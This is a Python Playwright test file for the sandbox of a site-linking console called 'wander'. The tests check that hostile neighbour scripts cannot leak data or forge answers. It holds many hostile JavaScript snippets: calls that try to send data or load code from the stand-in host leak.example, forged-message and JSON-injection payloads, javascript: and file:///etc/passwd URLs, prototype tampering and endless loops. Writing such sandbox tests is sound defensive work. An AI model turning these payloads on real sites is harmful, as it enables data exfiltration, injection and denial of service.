"""Neighbours that are broken or mean harm: what a visitor notices of them, which is nothing."""

import asyncio
import time
from collections.abc import Callable, Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any, Protocol

import pytest
from playwright.sync_api import Page, expect
from starlette.responses import HTMLResponse, PlainTextResponse, RedirectResponse, Response
from starlette.types import Receive, Scope, Send

from tests.conftest import ROOT, Home
from tests.live import wait_until
from tests.network import Network, silence
from tests.test_wandering import address, pages_asked_for
from tests.witness import Witness
from wander.console import Console
from wander.site.bundle import Bundle
from wander.site.linker import Linker
from wander.site.policy import page_policy

DEADLINE = 6.0
"""Seconds after which a neighbour's program is ended."""
MOST_ENTRIES = 1000
"""Pages and consoles, each, that are taken from one list."""

GOOD = "http://good.example/wander/"
GOOD_PAGES = {f"http://good{number}.example/" for number in range(3)}
OWN_PAGES = {f"http://own{number}.example/" for number in range(3)}
PAGE = "http://page.example/"
FORGED = "http://forged.example/"
LEAK = "http://leak.example/"


def asked_hosts(network: Network) -> set[str]:
    return {visit.host for visit in network.visits}


def script(program: str, **headers: str) -> Response:
    return Response(program, media_type="text/javascript", headers=headers)


class Torrent:
    """A server whose `wander.js` is 200 MB: it takes half a minute, and stops when nobody listens."""

    WHOLE = 200_000_000
    CHUNK = b"/" * 99_999 + b"\n"

    def __init__(self) -> None:
        self.sent = 0
        self.stopped = False

    async def __call__(self, _scope: Scope, receive: Receive, send: Send) -> None:
        headers = [(b"content-type", b"text/javascript")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        start = b"const wander = { pages: ['http://torrent-page.example/'] }\n"
        await send({"type": "http.response.body", "body": start, "more_body": True})
        gone = asyncio.create_task(until_gone(receive))
        while self.sent < self.WHOLE and not gone.done():
            await send({"type": "http.response.body", "body": self.CHUNK, "more_body": True})
            self.sent += len(self.CHUNK)
            await asyncio.sleep(0.015)
        self.stopped = gone.done()
        gone.cancel()


class Late:
    """A server that answers after so many seconds, if anybody is still there."""

    def __init__(self, seconds: float, response: Response) -> None:
        self._seconds = seconds
        self._response = response
        self.waited = 0.0

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        began = time.monotonic()
        try:
            await asyncio.wait_for(until_gone(receive), self._seconds)
        except TimeoutError:
            await self._response(scope, receive, send)
        self.waited = time.monotonic() - began


async def until_gone(receive: Receive) -> None:
    """Until the client has closed the connection."""
    while (await receive())["type"] != "http.disconnect":
        pass


# The sandbox by itself: what it makes of a stranger's program.


class ReadAll(Protocol):
    def __call__(self, consoles: Iterable[str], deadline: float = DEADLINE) -> dict[str, Any]: ...


@pytest.fixture
def sandbox(page: Page, network: Network, tmp_path: Path) -> Page:
    """A page with the console's own policy and the sandbox alone: it has `readConsole()`."""
    for module in (ROOT / "static" / "console").glob("*.js"):
        (tmp_path / module.name).symlink_to(module)
    (tmp_path / "alone.js").write_text(
        "import { readConsole } from './sandbox.js'\nwindow.readConsole = readConsole\n"
    )
    linker = Linker(tmp_path, str)
    bundle = Bundle("", linker.program("alone.js"), linker.program("sandbox-frame.js"))
    policy = page_policy(bundle, Console(), [bundle.script], from_disk=False)
    network.page(
        "http://me.example/",
        f"<!doctype html><title>me</title><body><script>{bundle.script}</script>",
        **{"Content-Security-Policy": policy},
    )
    page.goto("http://me.example/")
    return page


@pytest.fixture
def read_all(sandbox: Page) -> ReadAll:
    """Asks consoles, three at a time.

    Gives the checked list of each, or None where there was none to be had.
    """

    def read_all(consoles: Iterable[str], deadline: float = DEADLINE) -> dict[str, Any]:
        answers: dict[str, Any] = sandbox.evaluate(
            """async ([consoles, deadline]) => {
              const answers = {}
              await Promise.all([1, 2, 3].map(async () => {
                while (consoles.length) {
                  const url = consoles.shift()
                  answers[url] = await readConsole(url, deadline)
                }
              }))
              return answers
            }""",
            [list(consoles), deadline * 1000],
        )
        return answers

    return read_all


class Read(Protocol):
    def __call__(
        self, programs: Mapping[str, str], deadline: float = DEADLINE
    ) -> dict[str, Any]: ...


@pytest.fixture
def read(network: Network, read_all: ReadAll) -> Read:
    """What the sandbox makes of these programs, given by name."""

    def read(programs: Mapping[str, str], deadline: float = DEADLINE) -> dict[str, Any]:
        urls = {name: f"http://n{number}.example/" for number, name in enumerate(programs)}
        for name, url in urls.items():
            network.script(url, programs[name])
        answers = read_all(urls.values(), deadline)
        return {name: answers[url] for name, url in urls.items()}

    return read


def pages_of(answers: Mapping[str, Any]) -> dict[str, list[str] | None]:
    return {name: answer and answer["pages"] for name, answer in answers.items()}


def test_a_list_counts_however_it_is_declared(read: Read) -> None:
    programs = {
        "const": f"const wander = {{ pages: ['{PAGE}'] }}",
        "let": f"let wander = {{ pages: ['{PAGE}'] }}",
        "var": f"var wander = {{ pages: ['{PAGE}'] }}",
        "nothing": f"wander = {{ pages: ['{PAGE}'] }}",
        "window": f"window.wander = {{ pages: ['{PAGE}'] }}",
        "self": f"self.wander = {{ pages: ['{PAGE}'] }}",
        "a getter": f"Object.defineProperty(self, 'wander', {{ get: () => ({{ pages: ['{PAGE}'] }}) }})",
        "getters": f"const wander = {{ get pages() {{ return [...new Set(['{PAGE}'])] }} }}",
        "frozen": f"const wander = Object.freeze({{ pages: Object.freeze(['{PAGE}']) }})",
        "an instance": f"class List {{ pages = ['{PAGE}'] }}\nconst wander = new List()",
        "a proxy": f"const wander = new Proxy({{ pages: new Proxy(['{PAGE}'], {{}}) }}, {{}})",
        "a log line": f"console.log('hello'); const wander = {{ pages: ['{PAGE}'] }}; console.table(wander)",
        "before it throws": f"const wander = {{ pages: ['{PAGE}'] }}\nthrow new Error('too late')",
        "before it fails": f"const wander = {{ pages: ['{PAGE}'] }}\ndocument.title = wander.title",
        "before it goes on for ever": f"const wander = {{ pages: ['{PAGE}'] }}\n;(async () => {{ for (;;) await 0 }})()",
    }
    assert pages_of(read(programs)) == dict.fromkeys(programs, [PAGE])


def test_what_is_no_list_is_none(read: Read) -> None:
    programs = {
        "empty": "",
        "something else": "const wanderer = {}",
        "a syntax error": f"const wander = {{ pages: ['{PAGE}'] }} }}",
        "HTML": "<!doctype html><title>Not found</title>",
        "throws first": f"throw 1\nvar wander = {{ pages: ['{PAGE}'] }}",
        "a throwing getter": "Object.defineProperty(self, 'wander', { get() { throw 1 } })",
        "null": "const wander = null",
        "a string": f"const wander = '{PAGE}'",
        "a function": f"function wander() {{}}\nwander.pages = ['{PAGE}']",
        "a class": f"class wander {{ static pages = ['{PAGE}'] }}",
    }
    assert pages_of(read(programs)) == dict.fromkeys(programs)


def test_of_what_is_wrong_the_rest_counts(read: Read) -> None:
    programs = {
        "a string for a list": (f"pages: '{PAGE}'", []),
        "an object for a list": (f"pages: {{ 0: '{PAGE}', length: 1 }}", []),
        "a throwing getter for a list": ("get pages() { throw 1 }", []),
        "a proxy that throws": ("pages: new Proxy([1], { get() { throw 1 } })", []),
        "a revoked proxy": ("get pages() { const p = Proxy.revocable([], {}); p.revoke(); return p.proxy }", []),
        "other things among strings": (
            f"pages: [1, 'a', null, , undefined, {{}}, ['b'], 2n, Symbol(), new String('{PAGE}'),"
            f" () => 1, {{ toString: () => '{PAGE}' }}, 'c']",
            ["a", "c"],
        ),
        "an entry that throws": (
            "pages: Object.defineProperty(['a', 'b', 'c'], 1, { get() { throw 1 } })", ["a"],
        ),
        "ten million letters": (f"pages: ['http://' + 'x'.repeat(1e7), '{PAGE}']", [PAGE]),
        "notes that throw": (f"pages: ['{PAGE}'], get notes() {{ throw 1 }}", [PAGE]),
        "notes that are none": (f"pages: ['{PAGE}'], notes: 7, title: {{}}", [PAGE]),
        "a note that throws": (
            f"pages: ['{PAGE}'], notes: {{ get '{PAGE}'() {{ throw 1 }} }}", [PAGE],
        ),
        "a note that is too long": (
            f"pages: ['{PAGE}'], notes: {{ '{PAGE}': 'x'.repeat(1e7) }}, title: 'x'.repeat(1e7)", [PAGE],
        ),
    }  # fmt: skip
    answers = read({name: f"const wander = {{ {said} }}" for name, (said, _) in programs.items()})
    assert pages_of(answers) == {name: pages for name, (_, pages) in programs.items()}
    assert {name for name in answers if answers[name]["title"] or answers[name]["notes"]} == set()


def test_what_the_language_offers_may_be_overwritten(read: Read) -> None:
    programs = {
        "JSON": f"JSON.parse = JSON.stringify = () => '[\"{FORGED}\"]'; JSON = null",
        "Array": "Array.isArray = () => false; Array.prototype.push = () => {}; Array = null",
        "Array.prototype": f"""
            for (const index of [0, 1, 2]) {{
              Object.defineProperty(Array.prototype, index, {{ get: () => '{FORGED}', set() {{}} }})
            }}""",
        "iterators": "Array.prototype[Symbol.iterator] = String.prototype[Symbol.iterator] = null",
        "String.prototype": f"""
            for (const name of Object.getOwnPropertyNames(String.prototype)) {{
              String.prototype[name] = () => '{FORGED}'
            }}""",
        "toJSON": f"Object.prototype.toJSON = String.prototype.toJSON = () => '{FORGED}'",
        "toString": f"""
            Object.prototype.toString = Object.prototype.valueOf = () => '{FORGED}'
            String.prototype.toString = String.prototype.valueOf = () => '{FORGED}'
            String.prototype[Symbol.toPrimitive] = () => '{FORGED}'""",
        "Object.prototype": f"""
            const trap = {{ get: () => '{FORGED}', set() {{ throw 1 }} }}
            for (const name of ['url', 'text', 'data', 'transfer', 'notes', 'title', 'get', 'set']) {{
              Object.defineProperty(Object.prototype, name, trap)
            }}""",
        "Function.prototype": """
            for (const name of ['call', 'apply', 'bind', 'toString']) {
              Function.prototype[name] = () => { throw 1 }
            }""",
        "Promise": "Promise.prototype.then = null; Promise = class { constructor() { throw 1 } }",
        "Math": "Math.random = () => NaN; Math = null",
        "RegExp": "RegExp.prototype.test = RegExp.prototype.exec = () => true; RegExp = null",
        "Reflect": """
            Reflect.deleteProperty = () => true
            Object.getOwnPropertyNames = Object.getPrototypeOf = () => null""",
        "what speaks": "postMessage = importScripts = onmessage = close = console = null",
        "all of it": "for (const name of Object.getOwnPropertyNames(self)) self[name] = null",
    }  # fmt: skip
    before = f"const wander = {{ pages: ['{PAGE}', 'b'], title: '', notes: {{ '{PAGE}': 'N' }} }}\n"
    after = "\nwander.title = 'overwritten'"
    answers = read({name: before + program + after for name, program in programs.items()})
    said = {name: (a and (a["pages"], a["title"], a["notes"])) for name, a in answers.items()}
    assert said == dict.fromkeys(programs, ([PAGE, "b"], "overwritten", {PAGE: "N"}))


def test_a_list_has_the_language_and_nothing_else(read: Read) -> None:
    """Whatever a browser offers to Workers is taken away, also what it will offer one day."""
    program = """
      const found = []
      for (let owner = self; owner !== Object.prototype; owner = Object.getPrototypeOf(owner)) {
        for (const name of Object.getOwnPropertyNames(owner)) {
          const { value, get } = Object.getOwnPropertyDescriptor(owner, name)
          if (get || Object(value) === value) found.push(name)
        }
      }
      const attempts = [
        () => self.constructor === Object,
        () => Function('return this')() && 'programs can be made of text',
        () => (async () => {}).constructor('return this') && 'programs can be made of text',
        () => (0, eval)('this') && 'programs can be made of text',
      ]
      const results = attempts.map(attempt => { try { return String(attempt()) } catch { return 'refused' } })
      const wander = { pages: found, consoles: results }
    """
    answer = read({"names": program})["names"]
    assert answer["consoles"] == ["true", "refused", "refused", "refused"]
    assert set(answer["pages"]) == {
        "Array", "BigInt", "Boolean", "Date", "Error", "Function", "JSON", "Map", "Math", "Number",
        "Object", "Promise", "Proxy", "Reflect", "RegExp", "Set", "String", "Symbol", "URL",
        "URLSearchParams", "console", "decodeURI", "decodeURIComponent", "encodeURI",
        "encodeURIComponent", "globalThis", "isFinite", "isNaN", "parseFloat", "parseInt", "self",
        "window",
    }  # fmt: skip


def test_our_own_program_gives_nothing_away(read: Read) -> None:
    """Getters are called by the sandbox's own functions, which could be found on the stack."""
    program = f"""
      const found = []
      Error.prepareStackTrace = (error, sites) => {{
        for (const site of sites) for (const thing of [site.getFunction(), site.getThis()]) {{
          if (thing !== undefined && thing !== getter && thing !== wander) found.push('on the stack')
        }}
      }}
      const getter = function () {{
        try {{ if (getter.caller) found.push('a caller') }} catch {{}}
        try {{ if (getter.arguments.length) found.push('arguments') }} catch {{}}
        new Error().stack
        return ['{PAGE}']
      }}
      const wander = {{ get pages() {{ return found }} }}
      Object.defineProperty(wander, 'consoles', {{ get: getter }})
    """
    answer = read({"stack": program})["stack"]
    assert answer["consoles"] == [PAGE]
    assert answer["pages"] == []


def test_the_sandbox_measures_what_it_is_told(page: Page, read: Read) -> None:
    many = "Array.from({ length: 3e6 }, (_, i) => 'http://p' + i + '.example/')"
    awkward = "'\\u0001'"  # six characters in JSON
    answers = read(
        {
            "three million": f"const wander = {{ pages: {many}, consoles: {many} }}",
            "as much as there may be": f"""
              const all = Array.from({{ length: 3000 }}, (_, i) => i + {awkward}.repeat(3990))
              const note = {awkward}.repeat(10000)
              const wander = {{ pages: all, consoles: all, title: {awkward}.repeat(200),
                notes: Object.fromEntries(all.map(entry => [entry, note])) }}""",
        },
        deadline=30,
    )
    for key in ("pages", "consoles"):
        entries = answers["three million"][key]
        first = int(entries[0].removeprefix("http://p").removesuffix(".example/"))
        expected = [f"http://p{(first + i) % 3_000_000}.example/" for i in range(MOST_ENTRIES)]
        assert entries == expected
        assert first, "the end of a long list has no chance"
    most = answers["as much as there may be"]
    assert most["pages"]
    assert most["consoles"]
    assert sum(map(len, most["pages"] + most["consoles"])) < 100_000


def test_only_a_script_counts_from_that_host(network: Network, read_all: ReadAll) -> None:
    list_ = f"const wander = {{ pages: ['{PAGE}'] }}"
    answers = {
        "404": Response(list_, 404, media_type="text/javascript"),
        "500": Response(list_, 500, media_type="text/javascript"),
        "html": HTMLResponse(list_),
        "html-said-to-be-script": script("<!doctype html>"),
        "text-not-to-be-guessed-at": PlainTextResponse(list_, headers={"x-content-type-options": "nosniff"}),
        "elsewhere": RedirectResponse(LEAK + "wander.js"),
        "round-and-round": RedirectResponse("http://round-and-round.example/wander.js"),
        "within": RedirectResponse("http://within.example/list.js"),
        "to-www": RedirectResponse("http://www.to-www.example/wander.js"),
        "www.from-www": RedirectResponse("http://from-www.example/wander.js"),
    }  # fmt: skip
    for host, answer in answers.items():
        network.answer(f"http://{host}.example/wander.js", answer)
    for counted in (
        "within.example/list.js",
        "www.to-www.example/wander.js",
        "from-www.example/wander.js",
    ):
        network.answer(f"http://{counted}", script(list_))
    network.script(LEAK, list_)
    read = pages_of(read_all(f"http://{host}.example/" for host in answers))
    assert {console for console in read if read[console]} == {
        "http://within.example/", "http://to-www.example/", "http://www.from-www.example/",
    }  # fmt: skip
    assert network.visits_to("leak.example") == []


def test_nothing_reaches_another_host(network: Network, page: Page, read: Read) -> None:
    """Each way of asking a network is tried; most are not there to be tried."""
    ways = {
        "fetch": f"fetch('{LEAK}fetch')",
        "fetch-keepalive": f"fetch('{LEAK}keepalive', {{ keepalive: true, mode: 'no-cors' }})",
        "XMLHttpRequest": f"const x = new XMLHttpRequest; x.open('GET', '{LEAK}xhr', false); x.send()",
        "sendBeacon": f"navigator.sendBeacon('{LEAK}beacon', 'x')",
        "Image": f"new Image().src = '{LEAK}image'",
        "WebSocket": f"new WebSocket('{LEAK.replace('http', 'ws')}socket')",
        "WebSocketStream": f"new WebSocketStream('{LEAK.replace('http', 'ws')}stream')",
        "WebTransport": "new WebTransport('https://leak.example/')",
        "EventSource": f"new EventSource('{LEAK}events')",
        "FontFace": f"const f = new FontFace('f', 'url({LEAK}font)'); fonts.add(f); f.load()",
        "importScripts": f"importScripts('{LEAK}script.js')",
        "Worker": f"new Worker('{LEAK}worker.js')",
        "Worker-of-ours": f"""new Worker(URL.createObjectURL(new Blob(["fetch('{LEAK}nested')"])))""",
        "import": f"import('{LEAK}module.js').catch(() => {{}})",
        "import-redirected": "import('/to-leak.js').catch(() => {})",
        "import-data": f"import('data:text/javascript,import(\"{LEAK}data.js\")').catch(() => {{}})",
        "console": f"console.log('%c ', 'background: url({LEAK}console)')",
        "cookie": "document.cookie = 'a=b'; document.cookie.x.y",
        "localStorage": "localStorage.setItem('a', 'b')",
        "sessionStorage": "sessionStorage.setItem('a', 'b')",
        "indexedDB": "indexedDB.open('a')",
        "caches": "caches.open('a')",
        "open": f"open('{LEAK}window')",
        "alert": "alert('hello')",
        "location": f"location.href = '{LEAK}location'",
        "parent": f"parent.location = top.location = '{LEAK}top'",
        "document": f"document.write('<img src={LEAK}written>')",
    }  # fmt: skip
    for number in range(len(ways)):
        network.answer(
            f"http://n{number}.example/to-leak.js", RedirectResponse(LEAK + "redirected.js")
        )
    after = f"const wander = {{ pages: ['{PAGE}'] }}"
    answers = read({name: f"try {{ {way} }} catch {{}}\n{after}" for name, way in ways.items()})
    assert pages_of(answers) == dict.fromkeys(ways, [PAGE])
    page.wait_for_timeout(300)
    own = {f"n{number}.example" for number in range(len(ways))}
    assert asked_hosts(network) == own | {"me.example"}
    visits = [visit for visit in network.visits if visit.path == "/wander.js"]
    assert [v for v in visits if v.headers.keys() & {"cookie", "referer", "origin"}] == []


def test_the_policy_would_hold_by_itself(network: Network, page: Page, read_all: ReadAll) -> None:
    """Everything is taken from a stranger's Worker; here is one that still has it all."""
    network.mount("slow.example", silence)
    network.answer("http://slow.example/to-leak.js", RedirectResponse(LEAK + "redirected.js"))
    allowed = script("", **{"Access-Control-Allow-Origin": "*"})
    for path in ("own.js", "module.js"):
        network.answer(f"http://slow.example/{path}", allowed)
    page.evaluate("() => { readConsole('http://slow.example/', 8000) }")
    wait_until(lambda: len(page.frames) == 2)
    attempts = f"""
      const attempt = action => {{ try {{ Promise.resolve(action()).catch(() => {{}}) }} catch {{}} }}
      attempt(() => importScripts('http://slow.example/own.js'))
      attempt(() => importScripts('http://slow.example/to-leak.js'))
      attempt(() => importScripts('{LEAK}script.js'))
      attempt(() => importScripts('data:text/javascript,fetch("{LEAK}data")'))
      attempt(() => import('http://slow.example/module.js'))
      attempt(() => import('http://slow.example/to-leak.js'))
      attempt(() => import('{LEAK}module.js'))
      attempt(() => fetch('{LEAK}fetch'))
      attempt(() => fetch('{LEAK}fetch', {{ method: 'POST', mode: 'no-cors', keepalive: true }}))
      attempt(() => new WebSocket('{LEAK.replace("http", "ws")}socket'))
      attempt(() => new EventSource('{LEAK}events'))
      attempt(() => new FontFace('f', 'url({LEAK}font)').load())
      attempt(() => new Worker('{LEAK}worker.js'))
      attempt(() => eval('fetch("{LEAK}eval")'))
      attempt(() => {{ const x = new XMLHttpRequest; x.open('GET', '{LEAK}xhr', false); x.send() }})
      attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('{LEAK}nested')"]))))
      setTimeout(() => postMessage('tried'), 500)
    """
    said = page.frames[1].evaluate(
        """program => new Promise(resolve => {
          const worker = new Worker(URL.createObjectURL(new Blob([program])))
          worker.onmessage = ({ data }) => resolve(data)
        })""",
        attempts,
    )
    assert said == "tried"
    assert {visit.path for visit in network.visits_to("slow.example")} == {
        "/wander.js", "/own.js", "/to-leak.js", "/module.js",
    }  # fmt: skip
    assert asked_hosts(network) == {"me.example", "slow.example"}


def test_a_drowned_sandbox_is_left_for_a_new_one(
    network: Network, witness: Witness, sandbox: Page
) -> None:
    """`import()` cannot be taken away, and its refusals drown the thread that ends the Workers.

    Whoever is asked at that time must not suffer for it.
    """
    drowning = "http://drowning.example/"
    network.script(drowning, f"for (;;) import('{LEAK}').catch(() => {{}})")
    network.console(GOOD, pages=[PAGE])
    drowned, good = sandbox.evaluate(
        """async ([drowning, good]) => {
          const drowned = readConsole(drowning)
          await new Promise(resolve => setTimeout(resolve, 1000))
          return Promise.all([drowned, readConsole(good)])
        }""",
        [drowning, GOOD],
    )
    assert drowned is None
    assert good["pages"] == [PAGE]
    assert frames_left(sandbox) == 0
    assert network.visits_to("leak.example") == []
    witness.assert_calm()


def test_readings_leave_nothing_behind(page: Page, read: Read) -> None:
    programs = {f"{number}": f"const wander = {{ pages: ['{PAGE}'] }}" for number in range(25)}
    programs |= {f"broken {number}": "throw 1" for number in range(25)}
    assert list(pages_of(read(programs)).values()) == [[PAGE]] * 25 + [None] * 25
    assert page.locator("iframe").count() == 0


# The whole console, with a visitor who wanders on.


@pytest.fixture
def witness(page: Page, browser_name: str) -> Iterator[Witness]:
    if browser_name != "chromium":
        pytest.skip("only Chromium tells of long tasks")
    with Witness(page) as witness:
        yield witness


def open_among(home: Home, neighbours: Iterable[str]) -> Page:
    """A console with pages of its own, these neighbours, and a good one."""
    home.network.console(GOOD, pages=sorted(GOOD_PAGES))
    return home.open(pages=sorted(OWN_PAGES), consoles=[*neighbours, GOOD])


def wander_on(page: Page, until: Callable[[], object], within: float = 20.0) -> set[str]:
    """Press Wander until something has come about; every press brings another page at once."""
    box = page.get_by_role("button", name="Wander", exact=True).bounding_box()
    assert box
    shown = {address(page)}
    end = time.monotonic() + within
    while not until():
        assert time.monotonic() < end, f"not within {within} s; shown: {shown}"
        before = address(page)
        # Without asking the page first whether the button can be pressed.
        page.mouse.click(box["x"] + 10, box["y"] + 10)
        assert address(page) != before, "a press without an answer"
        shown.add(address(page))
        page.wait_for_timeout(120)
    return shown


def all_asked(network: Network, neighbours: Iterable[str]) -> Callable[[], bool]:
    hosts = {neighbour.split("/")[2] for neighbour in neighbours}
    return lambda: hosts <= asked_hosts(network)


def good_page_came(network: Network) -> bool:
    good = {url.split("/")[2] for url in GOOD_PAGES}
    return any(visit.host in good for visit in pages_asked_for(network))


def frames_left(page: Page) -> int:
    """Frames beside the visitor's page, but for the one that opens the next connection."""
    return page.locator("iframe:not(#wander-iframe):not([src])").count()


def test_broken_neighbours_are_passed_over(home: Home, network: Network, witness: Witness) -> None:
    broken = {
        "throws": "throw new Error('x')",
        "syntax": "const wander = {",
        "html": "<!doctype html>",
        "no-list": "const wander = { pages: 7, consoles: 'http://x.example/' }",
        "other-things": f"const wander = {{ pages: [1, null, {{}}, '{PAGE}', ['b']], consoles: [2] }}",
        "defined-first": "const wander = { pages: ['http://defined.example/'] }; throw 1",
        "schemes": """
            const urls = ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', ' javascript:alert(1)',
              'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', 'ftp://x.example/',
              'blob:http://me.example/0', 'about:blank', 'about:srcdoc', 'view-source:http://x.example/',
              'chrome://crash', '/relative', 'relative.html', '//x.example/', '', ' ', 'http://']
            const wander = { pages: urls, consoles: urls }""",
        "policy-words": """
            const wander = { consoles: ['http://*.example/', 'http://a;script-src.example/',
              "http://'unsafe-eval'.example/", 'http://a,b.example/', 'http://$.example/',
              'http://x.example;sandbox/', 'http://*/', 'http://[::1]:1/'] }""",
    }
    for name, program in broken.items():
        network.script(f"http://{name}.example/", program)
    network.answer("http://gone.example/wander.js", PlainTextResponse("not found", 404))
    network.answer("http://ill.example/wander.js", PlainTextResponse("a fault", 500))
    neighbours = [f"http://{name}.example/" for name in (*broken, "gone", "ill")]
    page = open_among(home, neighbours)
    shown = wander_on(page, all_asked(network, [*neighbours, GOOD]))
    shown |= wander_on(page, lambda: good_page_came(network))
    page.wait_for_timeout(500)
    listed = {PAGE, "http://defined.example/", *OWN_PAGES, *GOOD_PAGES}
    assert shown <= listed
    hosts = {url.split("/")[2] for url in [*listed, *neighbours, GOOD, home.url]}
    assert asked_hosts(network) <= hosts
    witness.assert_calm()


def test_slow_and_endless_neighbours_are_ended(
    home: Home, network: Network, witness: Witness
) -> None:
    torrent, late = Torrent(), Late(60, script("const wander = {}"))
    network.mount("torrent.example", torrent)
    network.mount("late.example", late)
    network.mount("never.example", silence)
    endless = {
        "loop": "while (true);",
        "getter": "const wander = { get pages() { for (;;); } }",
        "proxy": "const wander = { pages: new Proxy([], { get: () => Infinity }) }",
    }
    for name, program in endless.items():
        network.script(f"http://{name}.example/", program)
    neighbours = [f"http://{name}.example/" for name in ("torrent", "late", "never", *endless)]
    page = open_among(home, neighbours)
    shown = wander_on(page, all_asked(network, [*neighbours, GOOD]), within=30)
    asked = time.monotonic()
    shown |= wander_on(page, lambda: good_page_came(network) and frames_left(page) == 0)
    assert time.monotonic() - asked < DEADLINE + 4
    wait_until(lambda: torrent.stopped and late.waited)
    assert 0 < torrent.sent < torrent.WHOLE
    assert late.waited < DEADLINE + 4
    assert shown <= OWN_PAGES | GOOD_PAGES
    witness.assert_calm()


def test_a_long_list_does_not_hold_the_page_up(
    home: Home, network: Network, witness: Witness
) -> None:
    """Checking what it says is work for the page's own thread, so there must not be much of it."""
    huge = "http://huge.example/"
    network.script(
        huge,
        """
        const host = i => `http://h\u00fc${i}.a.b.c.d.e.f.g.h.example/`.padEnd(99, 'a/')
        const many = Array.from({ length: 2e4 }, (_, i) => host(i))
        const notes = Object.fromEntries(many.map(url => [url, 'n'.repeat(99)]))
        const wander = { pages: many, consoles: many, notes }
        """,
    )
    page = open_among(home, [huge])
    wander_on(page, lambda: any(host.startswith("xn--h") for host in asked_hosts(network)))
    page.wait_for_timeout(300)
    witness.assert_calm()


def test_nobody_speaks_for_another_console(home: Home, network: Network, witness: Witness) -> None:
    """Every way of getting a message to the page, each with a forged answer."""
    question = GOOD + "wander.js"
    forged = (
        f"""{{ url: '{question}', text: '{{"pages":["{FORGED}"],"consoles":["{FORGED}"]}}' }}"""
    )
    ways = {
        "post": "postMessage(forged)",
        "post-text": "postMessage(forged.text)",
        "parent": "parent.postMessage(forged, '*'); top.postMessage(forged, '*')",
        "channel": "new BroadcastChannel('wander').postMessage(forged)",
        "port": "const { port1, port2 } = new MessageChannel(); postMessage(port2, [port2]); port1.postMessage(forged)",
        "event": "dispatchEvent(new MessageEvent('message', { data: forged }))",
        "handler": "onmessage = ({ ports }) => ports[0].postMessage(forged)",
        "worker": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => postMessage(forged)",
        "later": "setTimeout(() => postMessage(forged)); queueMicrotask(() => postMessage(forged)); Promise.resolve().then(() => postMessage(forged))",
        "error": "reportError(new Error(forged.text)); throw new Error(forged.text)",
        "close": "close()",
        "title": "var wander = { title: forged.text, notes: { [question]: forged } }",
        "json": r"""var wander = { title: '","pages":["' + forged.pages + '"],"x":"', pages: [], consoles: ['"],"pages":["http://forged.example/"],"y":["'] }""",
    }
    for name, way in ways.items():
        program = f"const forged = {forged}, question = '{question}'; {way}"
        network.script(f"http://{name}.example/", program)
    neighbours = [f"http://{name}.example/" for name in ways]
    page = open_among(home, neighbours)
    shown = wander_on(page, all_asked(network, [*neighbours, GOOD]), within=30)
    shown |= wander_on(page, lambda: good_page_came(network))
    page.wait_for_timeout(300)
    assert shown <= OWN_PAGES | GOOD_PAGES
    assert network.visits_to("forged.example") == []
    witness.assert_calm()


def test_floods_do_not_drown_the_page(home: Home, network: Network, witness: Witness) -> None:
    """Each would be a task for the page or the browser, as many as there can be until the deadline."""
    each = "for (;;) for (const way of ways) try { way() } catch {}"
    floods = {
        "says": f"""
            const big = 'x'.repeat(1e5), error = new Error(big)
            self.addEventListener?.('a', () => {{ throw error }})
            const ways = [
              () => postMessage(big), () => console.log(big), () => console.error(error),
              () => reportError(error), () => dispatchEvent(new Event('a')),
              () => new BroadcastChannel('a').postMessage(big),
            ]
            {each}""",
        "asks": f"""
            const ways = [
              () => fetch('{LEAK}'), () => new WebSocket('ws://leak.example/'),
              () => new EventSource('{LEAK}'), () => importScripts('{LEAK}'),
              () => new Worker(URL.createObjectURL(new Blob(['for (;;) console.log(1)']))),
            ]
            {each}""",
        "rejects": """
            const error = new Error('x'.repeat(1e6))
            for (let i = 0; i < 1e4; i++) Promise.reject(error)
            const wander = {}""",
    }
    for name, program in floods.items():
        network.script(f"http://{name}.example/", program)
    neighbours = [f"http://{name}.example/" for name in floods]
    page = open_among(home, neighbours)
    shown = wander_on(page, all_asked(network, [*neighbours, GOOD]))
    shown |= wander_on(page, lambda: good_page_came(network) and frames_left(page) == 0)
    assert shown <= OWN_PAGES | GOOD_PAGES
    assert network.visits_to("leak.example") == []
    witness.assert_calm()


def test_the_witness_sees_a_page_that_is_held_up(home: Home, witness: Witness) -> None:
    """What the other tests rely on: half as much again as the limit does not go unnoticed."""
    page = home.open(pages=sorted(OWN_PAGES))
    expect(page.frame_locator("#wander-iframe").locator("h1")).to_be_visible()
    page.wait_for_timeout(300)
    witness.assert_calm()
    page.evaluate(
        """ms => new Promise(resolve => setTimeout(() => {
          const end = performance.now() + ms
          while (performance.now() < end);
          resolve()
        }))""",
        300,
    )
    page.wait_for_timeout(300)
    with pytest.raises(AssertionError, match="tasks of over 200 ms"):
        witness.assert_calm()
